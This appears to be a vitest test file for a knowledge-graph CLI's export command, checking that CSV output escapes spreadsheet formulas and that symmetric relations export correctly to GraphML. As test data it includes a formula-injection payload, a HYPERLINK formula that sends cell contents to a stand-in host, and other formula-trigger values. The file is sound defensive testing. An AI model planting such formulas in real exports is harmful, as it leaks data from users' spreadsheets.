// `kg export` on hostile and mixed graphs: spreadsheet-safe CSV and the networkx-safe default for symmetric relations.
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { unzipSync, strFromU8 } from 'fflate';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../src/cli/main.ts';
import { importCsvZip } from '../../src/lib/graph/formats/index.ts';

let stderr: string[];
beforeEach(() => {
  stderr = [];
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => (stderr.push(String(chunk)), true));
});
afterEach(() => vi.restoreAllMocks());

const dir = mkdtempSync(join(tmpdir(), 'kg-cli-export-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const LEAK = '=HYPERLINK("http://x.example/?leak="&A1,"x")';
const xml = (s: string): string => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

describe('kg export --format csv', () => {
  it('neutralises formulas in every cell and reads them back unchanged', async () => {
    const data = join(dir, 'hostile.gexf');
    writeFileSync(
      data,
      `<?xml version="1.0" encoding="UTF-8"?>
<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed">
<attributes class="node"><attribute id="0" title="type" type="string"/><attribute id="1" title="note" type="string"/></attributes>
<attributes class="edge"><attribute id="0" title="type" type="string"/><attribute id="1" title="date" type="string"/></attributes>
<nodes><node id="${xml(LEAK)}" label="+1+cmd"><attvalues><attvalue for="0" value="-org"/><attvalue for="1" value="@SUM(A1)"/></attvalues></node>
<node id="b" label="&#9;=1"/></nodes>
<edges><edge id="e1" source="${xml(LEAK)}" target="b"><attvalues><attvalue for="0" value="=funds"/><attvalue for="1" value="-2024"/></attvalues></edge></edges>
</graph></gexf>`,
    );
    const out = join(dir, 'out.zip');
    expect(await main(['export', '--format', 'csv', '--data', data, '-o', out])).toBe(0);
    const files = unzipSync(readFileSync(out));
    for (const name of ['nodes.csv', 'edges.csv']) {
      const text = strFromU8(files[name]!);
      expect(text).not.toMatch(/(^|,|\n)[=+\-@\t]/);
      expect(text).toContain("'");
    }
    const { graph } = importCsvZip(readFileSync(out), { fileName: 'out.zip' });
    expect(graph.entities.map((e) => [e.id, e.name.en, e.type])).toEqual([
      [LEAK, '+1+cmd', '-org'],
      ['b', '\t=1', 'node'],
    ]);
    expect(graph.entities[0]!.attributes).toEqual({ note: '@SUM(A1)' });
    expect(graph.relations[0]).toMatchObject({ source: LEAK, type: '=funds', date: '-2024' });
  });
});

describe('kg export --symmetric', () => {
  it('writes symmetric relations of the bundled graph as marked directed edges by default, undirected on request', async () => {
    const marked = join(dir, 'marked.graphml');
    const undirected = join(dir, 'undirected.graphml');
    expect(await main(['export', '--format', 'graphml', '-o', marked])).toBe(0);
    expect(await main(['export', '--format', 'graphml', '--symmetric', 'undirected', '-o', undirected])).toBe(0);
    expect(readFileSync(marked, 'utf8')).not.toContain('directed="false"');
    expect(readFileSync(marked, 'utf8')).toContain('attr.name="symmetric" attr.type="boolean"');
    expect(readFileSync(undirected, 'utf8')).toContain('directed="false"');
  });

  it('rejects an unknown mode with the list of modes', async () => {
    expect(await main(['export', '--format', 'gexf', '--symmetric', 'both', '-o', join(dir, 'x.gexf')])).toBe(1);
    expect(stderr.join('')).toMatch(/CLI_BAD_OPTION --symmetric must be one of marked, undirected/);
  });
});
